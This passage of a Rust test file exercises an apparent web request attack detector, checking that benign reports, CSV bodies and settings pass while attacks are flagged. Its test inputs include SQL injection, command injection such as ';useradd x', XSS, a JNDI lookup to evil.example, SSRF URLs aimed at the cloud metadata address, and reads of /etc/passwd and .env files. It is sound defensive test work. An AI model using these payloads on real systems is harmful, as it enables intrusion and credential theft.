fn what_people_and_programs_send_passes() {
    let mut refused = Vec::new();
    for (kind, part, name, texts) in HONEST {
        let found = texts.iter().map(|text| (text, standard(*part, name, text)));
        refused.extend(found.filter(|(_, found)| !found.is_empty()).map(|found| (kind, found)));
    }
    assert!(refused.is_empty(), "{refused:#?}");
}

#[test]
fn what_looks_like_it_is_found() {
    let mut missed = Vec::new();
    for (family, part, name, texts) in ATTACKS {
        let found = texts.iter().map(|text| (text, standard(*part, name, text)));
        missed.extend(found.filter(|(_, found)| !found.iter().any(|(known, _)| known == family)));
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn an_attack_behind_a_long_word_is_found() {
    let word = "A".repeat(9000);
    for (family, attack) in [
        ("sqli", "' UNION SELECT name || ':' || word FROM users"),
        ("sqli", "' or 'x'='x"),
        ("sqli", "') limit 1"),
        ("command", ";useradd x"),
    ] {
        let found = standard(Part::Body, "a", &format!("{word}{attack}"));
        assert!(found.iter().any(|(known, _)| *known == family), "{attack}: {found:?}");
    }
    assert_eq!(standard(Part::Body, "a", &word), []);
}

#[test]
fn a_table_of_a_spreadsheet_passes_where_a_body_is_one() {
    let of = |format| Options {
        context: Context {
            format: Some(format),
            content_type: "text/csv",
            ..Context::NONE
        },
        ..Options::STANDARD
    };
    for text in [
        "name;id;host;uptime;date\nweb1;17;a.example.com;99.9;2024-01-01\n",
        "name;id\nAnna;1\n",
        "Datum;id\r\n01.02.2024;7\r\n",
    ] {
        assert_eq!(families(Part::Body, "", text, &of(Format::Text)), [], "{text}");
    }
    for text in ["name;id\nAnna;1;cat /etc/passwd\n", "1.1.1.1;id\nx"] {
        assert_ne!(families(Part::Body, "", text, &of(Format::Text)), [], "{text}");
    }
}

#[test]
fn a_statement_passes_where_statements_are_reported_and_nowhere_else() {
    let text = "SELECT \"users\".* FROM \"users\" WHERE \"users\".\"email\" = $1 OR 1 = 1 LIMIT 1";
    let options = Options {
        context: Context {
            content_type: "application/x-sentry-envelope",
            ..Context::NONE
        },
        ..Options::STANDARD
    };
    assert_eq!(families(Part::Body, "spans.description", text, &options), []);
    assert_ne!(standard(Part::Query, "id", text), []);
    assert_ne!(families(Part::Body, "id", &format!("1; {text}"), &options), []);
}

/// The path, the type of the body, the field, what stands in it, and whether it passes.
#[rustfmt::skip]
const SENT_TO: &[(&str, &str, &str, &str, bool)] = &[
    ("/csp-report", "application/csp-report", "csp-report.script-sample", "alert(1)", true),
    ("/csp-report", "application/csp-report", "csp-report.script-sample", "eval(\"x\")", true),
    ("/csp-report", "application/csp-report", "csp-report.script-sample", "document.write('<script src=x>')", true),
    ("/csp-report", "application/csp-report", "csp-report.script-sample", "onclick=\"f()\"", true),
    ("/r", "application/reports+json", "body.sample", "javascript:void(0)", true),
    ("/r", "application/reports+json", "body.sample", "window.location = '/x'", true),
    ("/r", "application/json", "body.sample", "alert(1)", false),
    ("/r", "application/json", "script-sample", "alert(1)", false),
    ("/csp-report", "application/csp-report", "csp-report.document-uri", "https://example.com/\"><script>alert(1)</script>", false),
    ("/api/errors", "application/json", "message", "Refused to execute inline script: eval('x')", true),
    ("/api/errors", "application/json", "stack", "#0 /var/www/html/index.php(12): exec('ls')", true),
    ("/api/errors", "application/json", "message", "x <img src=x onerror=alert(1)>", false),
    ("/api/errors", "application/json", "message", "${jndi:ldap://evil.example/a}", false),
    ("/api/run", "application/json", "stack", "system('ls')", false),
    ("/admin/settings", "application/json", "url", "sftp://u@backup.example.com/daily", true),
    ("/admin/settings", "application/json", "url", "ldaps://ldap.corp.example.com:636", true),
    ("/admin/settings", "application/json", "path", "/var/log/nginx", true),
    ("/admin/settings", "application/json", "head_code", "<script async src=\"https://tags.example.com/a.js\"></script>", true),
    ("/admin/settings", "application/json", "url", "sftp://evil.example:11111/", false),
    ("/admin/settings", "application/json", "url", "gopher://evil.example/", false),
    ("/admin/settings", "application/json", "url", "ldap://169.254.169.254/", false),
    ("/admin/settings", "application/json", "path", "/etc/passwd", false),
    ("/admin/settings", "application/json", "path", "/var/www/.env", false),
    ("/admin/settings", "application/json", "name", "<script>alert(1)</script>", false),
    ("/admin/login", "application/json", "code", "<script>alert(1)</script>", false),
    ("/admin/../fetch", "application/json", "url", "sftp://u@backup.example.com/daily", false),
    ("/api/fetch", "application/json", "url", "ldaps://ldap.corp.example.com:636", false),
    ("/api/pages", "application/json", "head_code", "<script src=//evil.example></script>", false),
];

#[test]
fn reports_and_settings_are_told_by_where_they_are_sent() {
    let mut wrong = Vec::new();
    for (path, content_type, name, text, passes) in SENT_TO {
        let options = Options {
            context: Context {
                path,
                content_type,
                format: Some(Format::Json),
            },
            ..Options::STANDARD
        };
        let found = families(Part::Body, name, text, &options);
        if found.is_empty() != *passes {
            wrong.push((path, name, text, found));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}
